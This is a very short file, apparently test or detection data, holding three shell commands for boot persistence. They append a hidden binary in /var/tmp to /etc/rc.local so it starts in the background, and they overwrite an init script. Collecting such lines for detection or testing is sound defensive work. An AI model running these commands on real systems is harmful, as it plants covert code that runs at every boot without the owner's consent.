# SPDX-License-Identifier: Apache-2.0
# hits: 3
sh -c 'echo "/var/tmp/.d &" >> /etc/rc.local'
cp /usr/bin/true /etc/init.d/netconsole
sed -i '$i /var/tmp/.d &' /etc/rc.local
